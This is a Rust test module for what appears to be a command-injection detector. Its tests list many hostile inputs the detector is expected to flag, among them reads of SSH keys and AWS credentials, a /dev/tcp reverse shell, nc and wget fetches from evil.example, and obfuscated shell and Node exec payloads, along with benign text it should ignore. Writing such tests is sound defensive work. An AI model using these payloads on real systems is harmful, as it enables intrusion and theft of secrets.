                "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2lnbmF0dXJl",
                "The process [see above] is simple",
                "https://example.com/var/?utm=1&x=2",
            ],
        );
    }

    #[test]
    fn files_read_by_substitution() {
        use crate::fields::Part;
        for v in ["$(</etc/passwd)", "x$( < ~/.aws/credentials )y", "`<~/.ssh/id_rsa`", "host-$(<.env)", "` < $HOME/.netrc`", "a;b=$(<../../config/master.key)", "$(</proc/self/environ)"] {
            assert!(flags("attack.cmdi", v), "{v}");
            assert!(flags_at("attack.cmdi", Part::Body, v), "{v} in a form");
            assert!(flags_in_json("attack.cmdi", v), "{v} in a JSON text field");
        }
        for v in [
            "use `<=` to compare",
            "the `<div>` and `<br/>` tags",
            "`<T>` is a type parameter",
            "$(< 5 is false)",
            "price $( < 10 )",
            "In bash, `echo \"$(<version.txt)\"` prints the file",
            "`Vec<String>` and `Option<T>`",
            "$(</path/to/privkey.pem)",
            "$(<cert.pem)",
        ] {
            assert!(!flags_in_json("attack.cmdi", v), "{v}");
        }
        for v in ["use `<=` to compare", "$(< 5 is false)", "x < y and `a` < `b`"] {
            assert!(!flags("attack.cmdi", v), "{v}");
        }
    }

    #[test]
    fn stderr_redirects_and_name_lists_are_not_shells() {
        use crate::fields::Part;
        for v in [
            "add 2>&1 to see the errors in the same log",
            "stdio 2>&1 then stdout? false",
            "implement `serde::{Serialize,Deserialize}` for the types",
            "atomic `fetch_{add,sub,min,max}` operations",
            "const {id,name} = user; import {useState,useEffect} from 'react'",
            "lint every *.{php,js} file",
        ] {
            assert!(!any_flag_in_json(v), "{v} in a JSON body");
            assert!(!flags_at("attack.cmdi", Part::Body, v), "{v} in a form field");
        }
        // Lines of a log or a document in a JSON text field; in a URL a line break is a separator.
        for v in [
            "Traceback (most recent call last):\n  File \"/app/main.py\", line 3, in <module>\n    import os",
            "Steps:\nset -e at the top\ntype /help in the console",
        ] {
            assert!(!any_flag_in_json(v), "{v} in a JSON body");
            assert!(flags("attack.cmdi", v), "{v} in a URL");
        }
        for v in ["notes\n; cat /etc/passwd", "x\nwget http://evil.example/s", "a\n$(id)"] {
            assert!(flags_in_json("attack.cmdi", v), "{v} in a JSON body");
        }
        for v in [
            ";{cat,/etc/passwd}",
            "x;{ls,-la}",
            "{l,-lh}s",
            "$({wget,http://evil.example/x.sh})",
            "sh -i 2>&1 0>&1",
            "c{a,oun}t /etc/hosts",
            "{,ip,a}",
            "{,whoami}",
            "{uname,}",
            "0<&196;exec 196<>/dev/tcp/10.0.0.1/4242",
        ] {
            assert!(flags("attack.cmdi", v), "{v}");
        }
    }

    #[test]
    fn separators_glued_to_a_command_and_command_names_hidden_by_quoting() {
        for v in [
            "x ;top",
            ";top Monday report",
            "a |id",
            "&&uname",
            "report.txt ;more",
            "'c'url example.org",
            "w'h'oami",
            "x; c\\at notes",
            "1|wh$@oami",
            "$(c\"a\"t x)",
            "ok\np\"in\"g host",
            "cat${IFS}/etc/hosts",
            "cat$IFS$9/etc/hosts",
            "cat</etc/hosts",
            "x; netstat -an",
            "a|icacls C:\\Windows /grant x:F",
            "1;.output /tmp/x",
            "~+/notes",
            "\r\nEHLO evil.example",
            "\r\nA7 EXPUNGE",
            "who$()ami",
            "w``hoami",
            "x;$(rev<<<'imaohw')",
            "cat ${HOME:0:1}etc${HOME:0:1}hosts",
            "$'\\x77\\x68\\x6f\\x61\\x6d\\x69'",
            "x; df -h",
            "a|apt-get install -y nmap",
            "\r\nDATA\r\n",
            "\r\na2 select INBOX",
            "\na3 fetch 1:* (FLAGS)",
        ] {
            assert!(flags("attack.cmdi", v), "{v}");
            assert!(flags_at("attack.cmdi", crate::fields::Part::Body, v), "{v} in a form");
        }
        for v in [
            "Bonjour ; top du matin",
            "a; top of the list",
            ";environment",
            "I'd like a cat",
            "O'Brien's cat",
            "she said \"ls\" twice",
            "'cat' is a word",
            "it's 'top' secret",
            "Rock ;-)",
            "x ;topology",
            "date>2020-01-01",
            "price$5",
            "file.open(x)",
            "Use the .dump command",
            "~+z",
            "Hello ${name}, total ${order.total}",
            "it's $'5'",
            "a ;-) b",
            "a \\n b",
        ] {
            assert!(!flags("attack.cmdi", v), "{v}");
        }
        for v in ["| name | date | size |\n|---|---|---|", "|date|time|", "Steps:\nB2 examine the draft\nC3 select a reviewer", "Report\nData\nQuit the app\n"] {
            assert!(!any_flag_in_json(v), "{v} in a JSON body");
        }
        for v in ["I'd", "don't", "we'd", "l's", "a\\b", "who'd", "cat's"] {
            assert!(!super::hides_command(v.as_bytes(), 0), "{v}");
        }
        assert!(super::hides_command(b"c'a't", 0) && super::hides_command(b"p\\ing", 0) && super::hides_command(b"/bin/c''at", 0));
    }

    #[test]
    fn a_json_document_in_a_string_is_no_quoted_command() {
        // Policies, mappings and state machines travel as JSON text inside JSON, one member a line.
        for v in [
            "{\n\"Version\":\"2012-10-17\",\n\"Principal\":{\n\"AWS\":\"arn:aws:iam::111122223333:user/dev\"\n}\n}",
            "{\n  \"ssh\": {\"port\": 22},\n  \"curl\": \"enabled\"\n}",
            "[\n\"kill\":\"9\",\n\"ping\":\"pong\"\n]",
        ] {
            assert!(!any_flag_in_json(v), "{v}");
            assert!(!flags("attack.cmdi", v), "{v} in a query");
        }
        for v in ["\"aws\":\"x\"", "\"ping\":1", "'curl':'x'"] {
            assert!(!super::hides_command(v.as_bytes(), 0), "{v}");
        }
        // A command name split by quotes is still one, on any line of the value.
        for v in ["{\n\"a\":1\n}\nc\"u\"rl attacker.example", "x\nw\"ho\"ami", "{\"k\": \"v\"}\n'p'ing -c 3 host"] {
            assert!(flags("attack.cmdi", v), "{v}");
        }
    }

    #[test]
    fn more_programs_and_windows_arguments_after_a_separator() {
        for v in [
            "10.0.0.2;xzcat /var/backups/db.xz",
            "a|sysctl -w net.ipv4.ip_forward=1",
            "x&&sshpass -p hunter2 ssh admin@db",
            "1;dmidecode --type memory",
            "&mklink /j c:\\x c:\\users",
            "x&auditpol /set /category:logon",
            "&findstr /si secret *.config",
            "a;reg query HKCU\\Software\\Run",
            "q|net localgroup administrators eve /add",
            "x;gem install rails-backdoor",
            "x;yarn add left-pad && id",
            "id;make -f /tmp/Makefile",
            "a&&patch -p0 < /tmp/x.diff",
            "x|tree c:\\ /f",
        ] {
            assert!(flags("attack.cmdi", v), "{v}");
            assert!(flags_at("attack.cmdi", crate::fields::Part::Body, v), "{v} in a form");
        }
        for v in [
            "Notes; make sure the patch is tested",
            "Clean code; service - oriented design",
            "Done; gem install is the next step in the tutorial",
            "Team A & Team B; join us at the event",
            "Rock & roll; diff between genres",
            "Apples & pears; screen them for bruises",
            "Budget; history of spending 2019 to 2024",
            "a & b; tree c is the tallest",
        ] {
            assert!(!flags("attack.cmdi", v), "{v}");
        }
        assert!(super::TOOLS.windows(2).all(|w| w[0] < w[1]) && super::WORD_TOOLS.windows(2).all(|w| w[0] < w[1]));
    }

    #[test]
    fn node_runtime_reach_and_reconnaissance_probes() {
        for v in ["x.constructor['constructor']('return this')()", "process . mainModule", "Function('return process')()", "Reflect.construct(Function, ['return this'])", "require('child_process').execSync('id')", "spawnSync('sh', ['-c', 'id'])"] {
            assert!(flags("attack.cmdi", v), "{v}");
            assert!(flags_in_json("attack.cmdi", v), "{v} in a JSON body");
        }
        for v in ["whoami", " ipconfig ", "systeminfo.exe", "UNAME"] {
            assert!(flags("attack.cmdi", v), "{v}");
        }
        for v in ["whoami page", "the uname", "Reflect.apply(fn, obj, args)", "syncExec(x)", "function('a')"] {
            assert!(!flags("attack.cmdi", v), "{v}");
        }
        assert!(!any_flag_in_json("whoami"), "a word in a JSON text field");
    }

    #[test]
    fn windows_escapes_delays_powershell_and_executables() {
        for v in [
            "x&wh^oami",
            "x&c^m^d /c dir",
            "x&%COMSPEC% /c dir",
            "x;sleep 5",
            "x|sleep 3;",
            "a&timeout /t 9",
            "x;Invoke-WebRequest http://e.example/a -OutFile a.exe",
            "x|Get-ChildItem C:\\Users",
            "x&powershell -nop | iex",
            "x;IEX (iwr http://e.example/a.ps1)",
            "x&start /b a.exe",
            "x;chmod 777 /tmp/x",
            "x;chmod u+x /tmp/x",
            "x;ps aux",
            "x;ip addr",
            "x;/usr/bin/w?oami",
            "x&move c:\\a c:\\b",
        ] {
            assert!(flags("attack.cmdi", v), "{v}");
        }
        for v in [
            "Step 1; sleep 8 hours a night",
            "Get-together on Friday; bring snacks",
            "add-on | new-year sale; start-up costs",
            "x^2 + y^2 = z^2",
            "IEX exchange listing",
            "Review: 5 stars; ps: thanks!",
            "Files: report.exe; notes.txt",
            "chmod 755 is common",
        ] {
            assert!(!flags("attack.cmdi", v), "{v}");
        }
    }

    #[test]
    fn tool_command_lines_and_batch_conditionals_outside_json_text() {
        use crate::fields::Part;
        for v in ["ansible-playbook site.yml -i hosts", "chef-shell", "ansible-console", "cscli decisions delete --all", "/usr/bin/ansible-pull -U x"] {
            assert!(flags("attack.cmdi", v), "{v}");
            assert!(flags_at("attack.cmdi", Part::Body, v), "{v} in a form");
        }
        assert!(!flags_in_json("attack.cmdi", "chef-client"), "a job definition in a JSON text field");
        for v in ["ansible", "chef", "the chef-shell docs", "ansible-lint-report.txt", "chef-de-cuisine"] {
            assert!(!flags("attack.cmdi", v), "{v}");
        }
        for v in ["if a==b net user x y /add", "if %x%==1 del *", "if /i \"%u%\"==\"a\" start calc"] {
            assert!(flags("attack.cmdi", v), "{v}");
        }
        assert!(!flags_in_json("attack.cmdi", "In C, if a==b fails for floats; use an epsilon"), "prose about code in a JSON text field");
        for v in ["if a == b", "what if x==y?", "a==b if you like"] {
            assert!(!flags("attack.cmdi", v), "{v}");
        }
    }

    #[test]
    fn javascript_in_a_body_text_field_is_code_not_an_attack() {
        use crate::fields::Part;
        for snippet in [
            "module.exports = function() { return require('path').join(__dirname, 'x'); }",
            "document.addEventListener('click', function(){ console.log('hi') })",
            "Use `$(document).ready(function(){ init(); })` in jquery",
            "The function(){} syntax creates an anonymous function",
            "read it with process.env.DATABASE_URL and new Function('a', 'return a')",
            "## Install\n\n```sh\ncurl -fsSL https://get.example.com | sh\nnpm install && npm run build\n```",
            "Run `ls -la /var/log` then `tail -f /var/log/syslog | grep error`",
            "Check the distro with `cat /etc/os-release; uname -a` first",
            "const fs = require('fs'); process.exit(0) when done; this.constructor is the class",
            "the process.argv array holds the arguments",
        ] {
            assert!(!any_flag_in_json(snippet), "{snippet}");
        }
        for v in [
            "function(){return this}()",
            "console.log(1)",
            "process.env",
            "require('fs').readFileSync('/etc/hosts')",
            "process.exit(1)",
            "process.argv",
            "this.constructor",
            "vm.runInNewContext('x')",
            "globalThis.process",
            "global['process']",
        ] {
            assert!(flags("attack.cmdi", v), "{v} in a URL");
            assert!(
                flags_at("attack.cmdi", Part::Body, v),
                "{v} in a form field"
            );
        }
        for v in ["/bin/unxz -c /tmp/x.xz", "/usr/local/bin/foo --all"] {
            assert!(flags("attack.cmdi", v), "{v}");
        }
        assert!(
            !flags("attack.cmdi", "/usr/bin/python3"),
            "an interpreter path alone"
        );
        for v in [
            "require('child_process').exec('nc -e /bin/sh evil 4444')",
            "this.constructor.constructor('return process')().mainModule",
            "x; cat /etc/passwd",
            "`id`",
            "see `x`; cat /etc/passwd",
            "```\nwget http://evil.example/x.sh | sh",
            "eval(atob('Y29uc29sZS5sb2coMSk='))",
            "eval(Buffer.from(x, 'base64').toString())",
        ] {
            assert!(flags_in_json("attack.cmdi", v), "{v} in a JSON body");
        }
    }
}
